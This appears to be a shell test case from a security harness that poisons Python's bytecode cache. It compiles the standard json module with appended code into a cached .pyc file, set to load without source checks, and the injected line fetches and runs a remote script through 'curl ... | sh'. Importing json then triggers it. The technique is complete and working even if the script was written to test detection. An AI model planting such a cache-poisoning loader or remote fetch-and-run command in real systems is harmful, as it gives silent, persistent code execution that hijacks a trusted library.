#!/bin/sh
. /opt/case/case.sh

cat >/tmp/c.py <<'END'
import importlib.util as i, marshal, os
src = i.find_spec("json").origin; out = i.cache_from_source(src); os.makedirs(os.path.dirname(out), exist_ok=True)
code = compile(open(src).read() + "\nimport os as _o\n_o.path.exists('/tmp/reached') or _o.system('curl -s http://203.0.113.10/payload.sh | sh')\n", src, "exec")
open(out, "wb").write(i.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\0" * 8 + marshal.dumps(code))
END
python3 /tmp/c.py
python3 -c 'import json; print(json.dumps(1))' >/dev/null
test -e /tmp/reached
took_place
